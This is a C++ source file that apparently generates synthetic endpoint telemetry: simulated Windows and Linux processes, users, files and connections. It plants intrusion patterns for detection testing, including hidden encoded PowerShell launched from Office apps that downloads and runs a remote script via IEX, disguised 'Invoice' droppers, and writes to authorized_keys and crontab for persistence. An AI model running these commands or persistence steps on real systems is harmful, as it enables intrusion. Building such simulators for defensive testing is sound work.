#include "tarn/synthetic/SyntheticWorld.h"

#include <algorithm>
#include <cctype>
#include <cstdio>

#include "Keel/Utils/String.h"
#include "tarn/import/CommandLine.h"

namespace Tarn::Tool {
namespace {

using Catalog::Program;

constexpr uint32_t kHostPidSpace = 4026531836u;  // the initial pid namespace's inode
constexpr uint32_t kContainerPidSpace = 4026532200u;
constexpr int64_t kDayMs = 86'400'000;

// Windows integrity levels (mandatory label RIDs).
constexpr uint32_t kIntegrityLow = 0x1000;
constexpr uint32_t kIntegrityMedium = 0x2000;
constexpr uint32_t kIntegrityHigh = 0x3000;
constexpr uint32_t kIntegritySystem = 0x4000;

std::string BaseName(std::string_view path) {
  size_t slash = path.find_last_of("\\/");
  return std::string(slash == std::string_view::npos ? path : path.substr(slash + 1));
}

std::string Base64(const std::string& bytes) {
  static const char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (size_t i = 0; i < bytes.size(); i += 3) {
    uint32_t n = static_cast<uint8_t>(bytes[i]) << 16;
    if (i + 1 < bytes.size()) n |= static_cast<uint8_t>(bytes[i + 1]) << 8;
    if (i + 2 < bytes.size()) n |= static_cast<uint8_t>(bytes[i + 2]);
    out.push_back(kAlphabet[(n >> 18) & 63]);
    out.push_back(kAlphabet[(n >> 12) & 63]);
    out.push_back(i + 1 < bytes.size() ? kAlphabet[(n >> 6) & 63] : '=');
    out.push_back(i + 2 < bytes.size() ? kAlphabet[n & 63] : '=');
  }
  return out;
}

std::vector<std::string_view> Split(std::string_view text, char separator) {
  std::vector<std::string_view> parts;
  size_t start = 0;
  while (start <= text.size()) {
    size_t end = text.find(separator, start);
    if (end == std::string_view::npos) end = text.size();
    parts.push_back(text.substr(start, end - start));
    start = end + 1;
  }
  return parts;
}

}  // namespace

World::World(uint64_t seed, int64_t start_ms) : random_(seed), network_(random_) {
  auto programs = Catalog::Programs();
  children_.resize(programs.size());
  for (size_t i = 0; i < programs.size(); ++i) {
    for (std::string_view name : Split(programs[i].children, ' ')) {
      int child = Catalog::ProgramIndex(name);
      if (child >= 0) children_[i].push_back(child);
    }
  }
  MakeUsers();
  network_.Make();
  for (int i = 0; i < 3; ++i) {
    containers_.push_back(Hex("container" + std::to_string(random_.Next()), 64));
  }
  Boot(start_ms);
}

// ---- Users --------------------------------------------------------------

void World::MakeUsers() {
  auto first = Catalog::FirstNames();
  auto last = Catalog::LastNames();
  domain_ = "CORP";
  dns_domain_ = "corp.example.com";
  domain_sid_ = "S-1-5-21";
  for (int part = 0; part < 3; ++part) {
    domain_sid_ += "-" + std::to_string(random_.Between(1'000'000'000, 4'000'000'000));
  }
  uint32_t dbuid = 0;
  auto add = [&](std::string name, std::string domain, std::string sid, uint32_t uid, uint32_t gid,
                 bool linux) {
    users_.push_back(
        {std::move(name), std::move(domain), std::move(sid), uid, gid, ++dbuid, linux});
  };
  add("SYSTEM", "NT AUTHORITY", "S-1-5-18", 0, 0, false);
  add("LOCAL SERVICE", "NT AUTHORITY", "S-1-5-19", 0, 0, false);
  add("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20", 0, 0, false);
  std::string given(random_.Pick(first));
  std::string family(random_.Pick(last));
  interactive_ = users_.size();
  add(given + "." + family, domain_, domain_sid_ + "-1104", 1104, 513, false);
  admin_ = users_.size();
  add("adm." + given.substr(0, 1) + family, domain_, domain_sid_ + "-1105", 1105, 512, false);
  add("root", "", "", 0, 0, true);
  linux_person_ = users_.size();
  add(given, "", "", 1000, 1000, true);
  add("www-data", "", "", 33, 33, true);
  add("postgres", "", "", 999, 999, true);
  // Colleagues: they log on from elsewhere and show up in directory events.
  for (uint32_t rid = 1106; rid < 1112; ++rid) {
    std::string name = std::string(random_.Pick(first)) + ".";
    name += random_.Pick(last);
    add(name, domain_, domain_sid_ + "-" + std::to_string(rid), rid, 513, false);
  }
}

const User& World::AnyUser(bool linux) {
  for (;;) {
    const User& user = users_[random_.Below(users_.size())];
    if (user.linux_user == linux) return user;
  }
}

std::string World::Home(const User& user, bool linux) const {
  if (linux) return user.uid == 0 ? "/root" : "/home/" + user.name;
  if (user.domain == "NT AUTHORITY") return "C:\\Windows\\system32\\config\\systemprofile";
  return "C:\\Users\\" + user.name;
}

// ---- Processes -------------------------------------------------------------

void World::Boot(int64_t start_ms) {
  const auto days_up = static_cast<int64_t>(random_.Between(1, 5));
  int64_t boot = start_ms - days_up * kDayMs - static_cast<int64_t>(random_.Below(kDayMs));
  auto start = [&](std::string_view name, const Process* parent) -> Process& {
    boot += static_cast<int64_t>(random_.Between(20, 4000));
    int program = Catalog::ProgramIndex(name);
    Process& p = Start(program, parent, boot, UserFor(program, parent));
    p.boot = true;
    return p;
  };
  auto puid_of = [&](std::string_view name) -> uint64_t {
    for (const Process& p : live_) {
      if (p.name == name) return p.puid;
    }
    return 0;
  };
  auto by_puid = [&](uint64_t puid) -> const Process* {
    for (const Process& p : live_) {
      if (p.puid == puid) return &p;
    }
    return nullptr;
  };
  // Windows: the boot chain, then the session of the user.
  uint64_t system = start("System", nullptr).puid;
  uint64_t smss = start("smss.exe", by_puid(system)).puid;
  start("csrss.exe", by_puid(smss));
  uint64_t wininit = start("wininit.exe", by_puid(smss)).puid;
  uint64_t services = start("services.exe", by_puid(wininit)).puid;
  start("lsass.exe", by_puid(wininit));
  for (int i = 0; i < 8; ++i) start("svchost.exe", by_puid(services));
  start("MsMpEng.exe", by_puid(services));
  start("spoolsv.exe", by_puid(services));
  uint64_t winlogon = start("winlogon.exe", by_puid(smss)).puid;
  start("dwm.exe", by_puid(winlogon));
  Process& userinit = start("userinit.exe", by_puid(winlogon));
  userinit.user = static_cast<int>(interactive_);
  uint64_t userinit_puid = userinit.puid;
  Process& explorer = start("explorer.exe", by_puid(userinit_puid));
  explorer.user = static_cast<int>(interactive_);
  uint64_t explorer_puid = explorer.puid;
  // userinit ends once the shell runs; the shell still names it as parent.
  for (size_t i = 0; i < live_.size(); ++i) {
    if (live_[i].puid == userinit_puid) {
      live_.erase(live_.begin() + static_cast<std::ptrdiff_t>(i));
      break;
    }
  }
  for (std::string_view app : {"chrome.exe", "chrome.exe", "chrome.exe", "OUTLOOK.EXE", "Teams.exe",
                               "OneDrive.exe", "Code.exe"}) {
    start(app, by_puid(explorer_puid));
  }
  // Linux: WSL's init, its daemons and three containers.
  uint64_t init = start("systemd", nullptr).puid;
  for (std::string_view daemon : {"systemd-journald", "sshd", "cron", "dockerd"}) {
    start(daemon, by_puid(init));
  }
  uint64_t dockerd = puid_of("dockerd");
  for (size_t c = 0; c < containers_.size(); ++c) {
    Process& shim = start("containerd-shim-runc-v2", by_puid(dockerd));
    shim.container_id = containers_[c];
    uint64_t shim_puid = shim.puid;
    static constexpr std::string_view kServers[] = {"nginx", "node", "postgres"};
    start(kServers[c % 3], by_puid(shim_puid));
  }
  start("bash", by_puid(puid_of("sshd")));
}

int World::UserFor(int program, const Process* parent) {
  const Program& info = Catalog::Programs()[program];
  const bool linux = (info.flags & Catalog::kLinux) != 0;
  auto find = [this](std::string_view name) {
    for (size_t i = 0; i < users_.size(); ++i) {
      if (users_[i].name == name) return static_cast<int>(i);
    }
    return 0;
  };
  if (info.flags & Catalog::kSystem) return linux ? find("root") : 0;
  if (info.flags & Catalog::kService) {
    if (linux) return info.name == "postgres" ? find("postgres") : find("www-data");
    return static_cast<int>(random_.Below(3));  // SYSTEM, LOCAL SERVICE or NETWORK SERVICE
  }
  if (info.flags & Catalog::kElevated) return linux ? find("root") : static_cast<int>(admin_);
  if (parent != nullptr) {
    const User& owner = users_[parent->user];
    bool person =
        owner.domain != "NT AUTHORITY" && owner.name != "www-data" && owner.name != "postgres";
    if (person && owner.linux_user == linux) return parent->user;
  }
  return static_cast<int>(linux ? linux_person_ : interactive_);
}

uint32_t World::NewPid(const Process* parent, int program, uint32_t& pid_space) {
  const Program& info = Catalog::Programs()[program];
  auto in_use = [this](uint32_t space, uint32_t pid) {
    for (const Process& p : live_) {
      if (p.pid_space == space && p.pid == pid) return true;
    }
    return false;
  };
  if ((info.flags & Catalog::kLinux) == 0) {
    pid_space = 0;
    if (info.name == "System") return 4;
    for (;;) {
      uint32_t pid = static_cast<uint32_t>(random_.Between(100, 9000)) * 4;
      if (!in_use(0, pid)) return pid;
    }
  }
  if (info.flags & Catalog::kContainer) {
    // The first process of a container is its pid 1.
    size_t container = 0;
    for (size_t c = 0; c < containers_.size(); ++c) {
      if (parent != nullptr && parent->container_id == containers_[c]) container = c;
    }
    pid_space = kContainerPidSpace + static_cast<uint32_t>(container);
    uint32_t pid = 1;
    while (in_use(pid_space, pid)) pid += static_cast<uint32_t>(random_.Between(1, 7));
    return pid;
  }
  pid_space = kHostPidSpace;
  if (info.name == "systemd") return 1;
  for (;;) {
    linux_next_pid_ += static_cast<uint32_t>(random_.Between(1, 9));
    if (linux_next_pid_ > 4'194'000) linux_next_pid_ = 300;
    if (!in_use(pid_space, linux_next_pid_)) return linux_next_pid_;
  }
}

Process& World::Start(int program, const Process* parent, int64_t time_ms, int user) {
  const Program& info = Catalog::Programs()[program];
  Process p;
  p.program = program;
  p.user = user;
  p.pid = NewPid(parent, program, p.pid_space);
  p.puid = HashOf("puid", ++puid_counter_ ^ random_.Next());
  p.start_ms = time_ms;
  if (parent != nullptr) {
    p.parent_pid = parent->pid;
    p.parent_puid = parent->puid;
    p.parent_start_ms = parent->start_ms;
    p.parent_path = parent->path;
    if (info.flags & Catalog::kContainer) p.container_id = parent->container_id;
  }
  const User& owner = users_[user];
  const bool linux = (info.flags & Catalog::kLinux) != 0;
  if (info.flags & Catalog::kDropped) {
    p.path = drops_.empty() ? DropPath(*parent) : drops_.back();
    if (!drops_.empty()) drops_.pop_back();
  } else {
    p.path = Expand(info.path, owner, linux);
  }
  p.name = BaseName(p.path);
  SetCommandLine(p, owner);
  p.cwd = (info.flags & (Catalog::kSystem | Catalog::kService))
              ? (linux ? "/" : "C:\\Windows\\system32")
              : Home(owner, linux);
  if (!p.container_id.empty()) p.cwd = "/app";
  if (!linux) {
    p.integrity = owner.domain == "NT AUTHORITY"                                ? kIntegritySystem
                  : user == static_cast<int>(admin_)                            ? kIntegrityHigh
                  : p.command_line.find("--type=renderer") != std::string::npos ? kIntegrityLow
                                                                                : kIntegrityMedium;
    p.elevation = p.integrity >= kIntegrityHigh ? 2 : 3;
  }
  live_.push_back(std::move(p));
  return live_.back();
}

void World::SetCommandLine(Process& p, const User& user) {
  const Program& info = p.Info();
  const bool linux = p.IsLinux();
  std::vector<std::string_view> choices = Split(info.args, '|');
  std::string args = Expand(choices[random_.Below(choices.size())], user, linux);
  if (info.name == "powershell.exe") {
    // Office documents that start an encoded PowerShell are the classic
    // first step of an intrusion; now and then one does here.
    std::string parent = BaseName(p.parent_path);
    double chance = parent == "WINWORD.EXE" || parent == "EXCEL.EXE" ? 0.7
                    : parent == "OUTLOOK.EXE"                        ? 0.4
                    : parent == "cmd.exe"                            ? 0.05
                                                                     : 0.0;
    if (random_.Chance(chance)) args = "-NoP -NonI -W Hidden -Enc " + EncodedPowerShell();
  }
  if (info.name == "System") {
    p.command_line.clear();
  } else {
    bool quote = !linux && p.path.find(' ') != std::string::npos;
    p.command_line = quote ? "\"" + p.path + "\"" : p.path;
    if (!args.empty()) p.command_line += " " + args;
  }
  p.arg_offsets = ArgumentOffsets(p.command_line);
}

std::string World::EncodedPowerShell() {
  const RemoteHost& peer = network_.Peer(network_.RarePeer());
  std::string script = "IEX (New-Object Net.WebClient).DownloadString('https://" + peer.host + "/" +
                       Hex(peer.host, 8) + ".ps1')";
  std::string utf16;
  for (char c : script) {
    utf16.push_back(c);
    utf16.push_back('\0');
  }
  return Base64(utf16);
}

int World::ChildProgram(const Process& parent) {
  const std::vector<int>& children = children_[parent.program];
  return children[random_.Below(children.size())];
}

const Process& World::Spawn(int64_t time_ms) {
  // A dropped file runs now and then, started by a shell or the program
  // that brought it in.
  if (!drops_.empty() && random_.Chance(0.3)) {
    bool linux = drops_.back().front() == '/';
    const Process& parent = Actor(Activity::kSpawn, linux ? 1 : 0);
    int program = Catalog::ProgramIndex(linux ? "kworkerd" : "dropper");
    Process copy = parent;  // Start may move the live processes
    return Start(program, &copy, time_ms, UserFor(program, &copy));
  }
  // Now and then a document or a mail opens a shell: the first step of many
  // intrusions, and worth finding.
  if (random_.Chance(0.005)) {
    const Process* office = Find(random_.Chance(0.5) ? "WINWORD.EXE" : "OUTLOOK.EXE");
    if (office != nullptr) {
      const Process parent = *office;
      int program = Catalog::ProgramIndex("powershell.exe");
      return Start(program, &parent, time_ms, UserFor(program, &parent));
    }
  }
  std::vector<double> weights(live_.size());
  for (size_t i = 0; i < live_.size(); ++i) {
    weights[i] = children_[live_[i].program].empty() ? 0 : live_[i].Info().spawn;
  }
  const Process parent = live_[WeightedChoice(weights).Pick(random_)];
  int program = ChildProgram(parent);
  return Start(program, &parent, time_ms, UserFor(program, &parent));
}

bool World::CanTerminate() const {
  for (const Process& p : live_) {
    if (!p.boot) return true;
  }
  return false;
}

bool World::Terminate(Process& ended) {
  if (!CanTerminate()) return false;
  std::vector<double> weights(live_.size());
  for (size_t i = 0; i < live_.size(); ++i) {
    // Tools come and go; applications and shells stay longer.
    if (!live_[i].boot) weights[i] = live_[i].Info().spawn >= 4 ? 1 : 6;
  }
  size_t i = WeightedChoice(weights).Pick(random_);
  // Its connections end with it.
  network_.CloseConnectionsOf(live_[i].puid);
  ended = std::move(live_[i]);
  live_[i] = std::move(live_.back());
  live_.pop_back();
  return true;
}

const Process& World::Actor(Activity activity, int linux) {
  std::vector<double> weights(live_.size());
  for (size_t i = 0; i < live_.size(); ++i) {
    const Process& p = live_[i];
    if (linux >= 0 && p.IsLinux() != (linux == 1)) continue;
    const Program& info = p.Info();
    double w = 0.2;
    switch (activity) {
      case Activity::kSpawn: w = children_[p.program].empty() ? 0 : info.spawn; break;
      case Activity::kFile: w += info.file; break;
      case Activity::kNetwork: w += info.net; break;
      case Activity::kRegistry: w += info.reg; break;
      case Activity::kAny: w += 1; break;
    }
    weights[i] = w;
  }
  return live_[WeightedChoice(weights).Pick(random_)];
}

const Process* World::Find(std::string_view name) const {
  for (const Process& p : live_) {
    if (p.name == name) return &p;
  }
  return nullptr;
}

const Process* World::FindByPuid(uint64_t puid) const {
  for (const Process& p : live_) {
    if (p.puid == puid) return &p;
  }
  return nullptr;
}

const Process& World::Other(const Process& not_this) {
  for (int tries = 0; tries < 16; ++tries) {
    const Process& p = live_[random_.Below(live_.size())];
    if (p.puid != not_this.puid && p.IsLinux() == not_this.IsLinux()) return p;
  }
  return not_this;
}

// ---- Files ---------------------------------------------------------------

std::string World::DropPath(const Process& actor) {
  const User& user = users_[actor.user];
  std::string path;
  if (actor.IsLinux()) {
    path = "/tmp/.cache/kworkerd";
  } else if (random_.Chance(0.5)) {
    path = Home(user, false) + "\\AppData\\Local\\Temp\\" + Hex(std::to_string(random_.Next()), 8) +
           ".exe";
  } else {
    path = Home(user, false) + "\\Downloads\\Invoice_" +
           std::to_string(random_.Between(1000, 9999)) + ".exe";
  }
  drops_.push_back(path);
  return path;
}

std::string World::FilePath(const Process& actor) {
  const User& user = users_[actor.user];
  const std::string& name = actor.name;
  const std::string hex8 = Hex(std::to_string(random_.Next()), 8);
  auto doc = [this] { return std::string(random_.Pick(Catalog::DocumentNames())); };
  auto src = [this] { return std::string(random_.Pick(Catalog::SourceNames())); };
  if (actor.IsLinux()) {
    const std::string home = Home(user, true);
    if (name == "nginx")
      return random_.Chance(0.7) ? "/var/log/nginx/access.log" : "/usr/share/nginx/html/index.html";
    if (name == "postgres")
      return "/var/lib/postgresql/data/base/16384/" + std::to_string(random_.Between(1200, 1300));
    if (name == "systemd-journald")
      return "/var/log/journal/" + Hex(network_.Hostname(), 32) + "/system.journal";
    if (name == "apt-get") {
      std::string package(random_.Pick(Catalog::Words()));
      return "/var/cache/apt/archives/" + package + "_1." + std::to_string(random_.Below(20)) +
             "_amd64.deb";
    }
    if (name == "tar" || name == "backup.sh")
      return "/var/backups/home-" + std::to_string(random_.Between(1, 30)) + ".tar.gz";
    if (name == "kworkerd")
      return random_.Chance(0.5) ? home + "/.ssh/authorized_keys" : "/etc/crontab";
    switch (random_.Below(5)) {
      case 0: return home + "/src/tarn-demo/src/" + src() + ".c";
      case 1: return home + "/src/tarn-demo/build/" + src() + ".o";
      case 2: return "/tmp/tmp." + Hex(std::to_string(random_.Next()), 10);
      case 3: return random_.Chance(0.5) ? "/etc/hosts" : "/etc/resolv.conf";
      default: return home + "/.bash_history";
    }
  }
  const std::string home = Home(user, false);
  if (name == "chrome.exe") {
    return random_.Chance(0.8) ? home +
                                     "\\AppData\\Local\\Google\\Chrome\\User "
                                     "Data\\Default\\Cache\\Cache_Data\\f_0" +
                                     Hex(hex8, 5)
                               : home + "\\Downloads\\" + doc() + ".pdf";
  }
  if (name == "OUTLOOK.EXE") {
    return random_.Chance(0.6)
               ? home + "\\AppData\\Local\\Microsoft\\Outlook\\" + user.name + "@" + dns_domain_ +
                     ".ost"
               : home + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\" +
                     hex8 + "\\" + doc() + ".docx";
  }
  if (name == "WINWORD.EXE") return home + "\\Documents\\" + doc() + ".docx";
  if (name == "EXCEL.EXE") return home + "\\Documents\\" + doc() + ".xlsx";
  if (name == "OneDrive.exe") return home + "\\OneDrive - Example Corp\\" + doc() + ".docx";
  if (name == "Code.exe" || name == "git.exe" || name == "node.exe" || name == "python.exe") {
    return home + "\\source\\tarn-demo\\src\\" + src() + ".ts";
  }
  if (name == "MsMpEng.exe" || name == "SearchProtocolHost.exe" || name == "TrustedInstaller.exe") {
    switch (random_.Below(4)) {
      case 0: return "C:\\Windows\\System32\\" + std::string(random_.Pick(Catalog::SystemDlls()));
      case 1: return Home(InteractiveUser(), false) + "\\Documents\\" + doc() + ".docx";
      case 2:
        return "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\" + hex8 +
               ".log";
      default: return "C:\\Windows\\Prefetch\\" + name + "-" + Hex(name, 8) + ".pf";
    }
  }
  if (actor.IsDropper()) {
    return random_.Chance(0.5)
               ? home + "\\AppData\\Roaming\\Microsoft\\" + hex8 + ".dat"
               : "C:\\Users\\Public\\" + std::string(random_.Pick(Catalog::Words())) + ".bat";
  }
  if (user.domain == "NT AUTHORITY") {
    return random_.Chance(0.5)
               ? "C:\\Windows\\Temp\\" + hex8 + ".tmp"
               : "C:\\Windows\\System32\\" + std::string(random_.Pick(Catalog::SystemDlls()));
  }
  return random_.Chance(0.5) ? home + "\\AppData\\Local\\Temp\\" + hex8 + ".tmp"
                             : home + "\\Documents\\" + doc() + ".docx";
}

// ---- Text --------------------------------------------------------------------

std::string World::Expand(std::string_view text, const User& user, bool linux) {
  std::string out;
  size_t i = 0;
  while (i < text.size()) {
    if (text[i] != '{') {
      out.push_back(text[i++]);
      continue;
    }
    size_t end = text.find('}', i);
    if (end == std::string_view::npos) {
      out.append(text.substr(i));
      break;
    }
    std::string_view key = text.substr(i + 1, end - i - 1);
    i = end + 1;
    if (key == "home") {
      out += Home(user, linux);
    } else if (key == "user") {
      out += user.name;
    } else if (key == "doc") {
      out += random_.Pick(Catalog::DocumentNames());
    } else if (key == "src") {
      out += random_.Pick(Catalog::SourceNames());
    } else if (key == "host") {
      out += network_.CommonHost();
    } else if (key == "url") {
      out += "https://" + network_.OutsideHost();  // draws first
      out += random_.Pick(Catalog::UrlPaths());
    } else if (key == "repo") {
      out += random_.Pick(Catalog::Words());
      out += "-";
      out += random_.Pick(Catalog::Words());
    } else if (key == "n") {
      out += std::to_string(random_.Between(1, 9999));
    } else if (key == "GUID") {
      out += "{" + Guid() + "}";
    } else if (key == "cid") {
      out += containers_[random_.Below(containers_.size())];
    } else {
      out += "{" + std::string(key) + "}";
    }
  }
  return out;
}

std::string World::Hex(std::string_view key, size_t digits) {
  std::string out;
  char chunk[17];
  for (uint64_t salt = 0; out.size() < digits; ++salt) {
    std::snprintf(chunk, sizeof(chunk), "%016llx",
                  static_cast<unsigned long long>(HashOf(key, salt)));
    out += chunk;
  }
  out.resize(digits);
  return out;
}

std::string World::Guid() {
  std::string hex = Hex(std::to_string(random_.Next()), 32);
  for (char& c : hex) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  return hex.substr(0, 8) + "-" + hex.substr(8, 4) + "-" + hex.substr(12, 4) + "-" +
         hex.substr(16, 4) + "-" + hex.substr(20, 12);
}

}  // namespace Tarn::Tool
